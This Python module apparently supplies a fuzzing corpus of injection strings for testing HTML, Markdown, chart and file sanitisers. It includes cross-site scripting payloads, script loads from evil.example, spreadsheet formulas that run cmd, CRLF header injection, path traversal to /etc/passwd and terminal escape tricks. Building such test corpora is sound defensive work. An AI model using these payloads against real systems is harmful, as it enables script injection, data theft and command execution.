"""A hundred and more strings that would run in a page, a chart, a file or a terminal which took them for its own."""

from __future__ import annotations

from collections.abc import Iterator

_RUN = ("alert(1)", "confirm`1`", "window.hurt=1")
_TAGS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus",
)
_TAGS += (
    "iframe onload",
    "object data=x onerror",
    "marquee onstart",
    "select autofocus onfocus",
    "audio src=x onerror",
)
_SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "vbscript:x")
_SCHEMES += ("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")
_SCHEMES += ("//evil.example/x.js", "\\\\evil.example\\x", "file:///etc/passwd", "blob:x", "javascript&colon;alert(1)")


def strings() -> list[str]:
    """All strings, each once."""
    return list(dict.fromkeys(_made()))


def addresses() -> list[str]:
    """What stands where an address is expected and is none that may become a link."""
    return [
        *_SCHEMES,
        "https:javascript:alert(1)",
        'http://x" onclick="alert(1)',
        "https://x'><script>alert(1)</script>",
    ]


def _made() -> Iterator[str]:
    for run in _RUN:
        yield f"<script>{run}</script>"
        yield f"<ScRiPt >{run}</sCrIpT>"
        yield f"</title><script>{run}</script>"
        yield f"</textarea></style></script><script>{run}</script>"
        yield f'"><script>{run}</script>'
        yield f"'><script>{run}</script>"
        yield f"--><script>{run}</script>"
        yield f"]]><script>{run}</script>"
        yield f'" autofocus onfocus="{run}'
        yield f"' onmouseover='{run}"
        yield f"`${{{run}}}`"
        yield f"{{{{constructor.constructor('{run}')()}}}}"
        for tag in _TAGS:
            yield f"<{tag}={run}>"
    for scheme in _SCHEMES:
        yield f'<a href="{scheme}">x</a>'
        yield f"[x]({scheme})"
        yield f'<iframe src="{scheme}"></iframe>'
    yield from (
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><style><img src=x onerror=alert(1)></style>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=//evil.example/>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<b onclick=alert(1)>bold</b>",
        "<span style='background:url(//evil.example/x)'>x</span>",
        "<a href='https://evil.example' target=_blank>click</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(1)＜/script＞",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<img src=x onerror=alert(1)//",
        "<<script>alert(1);//<</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "{\"__html\": \"<img src=x onerror=alert(1)>\"}",
        "{\"type\": \"Markdown\", "
        "\"props\": {\"dangerously_allow_html\": true}, \"namespace\": \"dash_core_components\"}",
        "__proto__", "constructor", "%(alert)s %s {0} ${alert(1)} #{7*7} <%= 7*7 %>",
        "=HYPERLINK(\"javascript:alert(1)\",\"x\")", "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd", "-2+3",
        "\t=1+1", "\r\nSet-Cookie: hurt=1", "a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        "\u202egnp.exe", "\x1b[2J\x1b]0;hurt\x07", "../../../../etc/passwd", "con.png", "a" * 400,
    )  # fmt: skip
